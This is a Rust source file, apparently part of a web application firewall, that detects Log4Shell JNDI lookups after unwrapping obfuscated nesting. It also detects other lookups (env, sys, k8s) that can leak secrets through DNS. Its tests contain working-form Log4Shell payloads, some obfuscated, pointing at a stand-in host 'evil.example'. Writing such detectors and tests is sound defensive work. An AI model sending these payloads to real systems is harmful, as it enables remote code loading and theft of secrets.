//! Log4Shell (CVE-2021-44228) and its relatives: a `${jndi:...}` lookup, after undoing the lookup nesting used
//! to hide it (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`, `${env:X:-j}`). Only values with `${` are looked at.

use super::{Ctx, Hit};

pub const FRAGMENTS: &[&str] = &["${"];

const PROTOCOLS: &[&str] = &[
    "ldap", "ldaps", "rmi", "dns", "iiop", "http", "https", "corba", "nds", "nis",
];

pub fn detect(s: &str, _ctx: &Ctx) -> Option<Hit> {
    let start = s.find("${")?;
    let folded = fold_lookups(&s[start..]);
    if let Some(p) = folded.find("${jndi:") {
        let rest = &folded[p + 7..];
        let c = if PROTOCOLS.iter().any(|pr| rest.starts_with(pr)) {
            0.99
        } else {
            0.95
        };
        return Some(Hit::new(c, start, s.len().min(start + 80), "log4shell.jndi_lookup"));
    }
    // Other lookups that leak secrets through a DNS name.
    for lookup in [
        "${env:",
        "${sys:",
        "${java:",
        "${ctx:",
        "${main:",
        "${bundle:",
        "${k8s:",
        "${docker:",
        "${spring:",
    ] {
        if folded.contains(lookup) && folded.contains('.') {
            return Some(Hit::new(0.8, start, s.len().min(start + 80), "log4shell.lookup"));
        }
    }
    None
}

/// Replaces `${lower:x}`, `${upper:x}` and `${anything:-x}` by `x`, innermost first, a bounded number of times.
fn fold_lookups(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..32 {
        // Find an innermost `${...}`: a `${` with no `${` or `}` before its `}`.
        let Some(open) = innermost(&cur) else { break };
        let Some(close_rel) = cur[open + 2..].find('}') else {
            break;
        };
        let close = open + 2 + close_rel;
        let inner = &cur[open + 2..close];
        let replacement = if let Some(v) = inner.strip_prefix("lower:").or_else(|| inner.strip_prefix("upper:")) {
            v.to_owned()
        } else if let Some(i) = inner.find(":-") {
            inner[i + 2..].to_owned()
        } else {
            // A lookup we keep: mark it so the loop moves on.
            format!("\u{1}{inner}\u{2}")
        };
        cur.replace_range(open..=close, &replacement);
    }
    cur.replace('\u{1}', "${").replace('\u{2}', "}")
}

fn innermost(s: &str) -> Option<usize> {
    let mut last = None;
    let mut i = 0;
    while let Some(p) = s[i..].find("${") {
        let at = i + p;
        let next_close = s[at + 2..].find('}').map(|c| at + 2 + c);
        let next_open = s[at + 2..].find("${").map(|o| at + 2 + o);
        match (next_open, next_close) {
            (Some(o), Some(c)) if o < c => i = at + 2,
            (_, Some(_)) => {
                last = Some(at);
                break;
            }
            _ => break,
        }
    }
    last
}

#[cfg(test)]
mod tests {
    use crate::waf::detect::test_support::confidence;
    use crate::waf::family::Family;

    fn c(s: &str) -> f32 {
        confidence(Family::Log4shell, s)
    }

    #[test]
    fn jndi_lookups_are_detected_through_obfuscation() {
        assert!(c("${jndi:ldap://evil.example/a}") >= 0.95);
        assert!(c("${${lower:j}ndi:ldap://evil.example/a}") >= 0.95);
        assert!(c("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}") >= 0.95);
        assert!(c("%24%7Bjndi:dns://x%7D") >= 0.95);
    }

    #[test]
    fn template_variables_pass() {
        assert!(c("Hello ${name}") < 0.5);
    }
}
